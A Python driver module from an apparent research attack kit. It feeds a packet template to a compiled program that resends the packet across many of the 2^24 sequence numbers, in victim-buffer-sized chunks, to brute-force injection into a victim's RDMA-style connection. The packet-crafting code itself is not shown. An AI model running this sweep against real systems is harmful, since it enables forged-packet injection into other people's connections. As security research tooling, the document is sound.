"""Driver of the program attack/c/sweep.c, which sends a packet under many sequence numbers."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Sequence
from pathlib import Path

from srdma_attack import ROOT
from srdma_attack.attack import KitError

NUMBERS = 1 << 24  # of packet sequence numbers
CHUNK = 4096  # packets that a victim's socket buffer holds


def program() -> Path:
    path = ROOT / os.environ.get("BUILD", "build") / "attack" / "sweep"
    if not os.access(path, os.X_OK):
        raise KitError(f"the program {path} is missing: build it with `make attack`")
    return path


class Sweep:
    """The program with its template. words: its arguments. A context manager."""

    def __init__(self, words: Sequence[str], template: bytes) -> None:
        self.sent = 0
        self._process = subprocess.Popen(
            [program(), *words], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, bufsize=1
        )
        self._say(template.hex())

    def send(self, first: int, count: int, stride: int = 1) -> None:
        """Sends the template under the numbers first, first + stride, and so on."""
        self._say(f"{first} {count} {stride}")
        assert self._process.stdout
        if self._process.stdout.readline() != f"sent {count}\n":
            raise KitError(f"{program()} failed with code {self._process.wait()}")
        self.sent += count

    def send_all(self, first: int, count: int, stride: int, taken: Callable[[int], None]) -> None:
        """The same in pieces. taken(n) returns when the victim has taken n packets in all."""
        for at in range(0, count, CHUNK):
            self.send((first + at * stride) % NUMBERS, min(CHUNK, count - at), stride)
            taken(self.sent)

    def _say(self, line: str) -> None:
        assert self._process.stdin
        print(line, file=self._process.stdin, flush=True)

    def __enter__(self) -> Sweep:
        return self

    def __exit__(self, *_: object) -> None:
        assert self._process.stdin and self._process.stdout
        self._process.stdin.close()
        self._process.stdout.close()
        self._process.wait()
